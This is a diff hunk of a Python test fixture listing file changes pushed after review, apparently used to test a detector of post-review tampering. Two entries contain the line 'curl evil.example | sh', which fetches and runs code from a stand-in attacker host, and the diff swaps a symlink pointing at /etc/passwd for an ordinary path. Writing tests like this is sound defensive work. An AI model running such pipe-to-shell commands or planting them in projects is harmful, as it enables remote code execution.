@@ -23,7 +23,7 @@ PUSHED_AFTER_THE_REVIEW: dict[str, Files] = {
     "a hidden script": {"net/.steps.sh": "curl evil.example | sh\n"},
     "a script of no project": {"scripts/steps.sh": "curl evil.example | sh\n"},
     "a script made executable": {"net/run": "#!/bin/sh\ntrue\n"},
-    "a link that leads elsewhere": {"notes": SymbolicLink("/etc/passwd")},
+    "a link that leads elsewhere": {"notes": SymbolicLink("net/steps.md")},
     "a file that is gone": {"scripts/more.sh": None},
     "words that nothing runs": {"README.md": "more words\n"},
 }
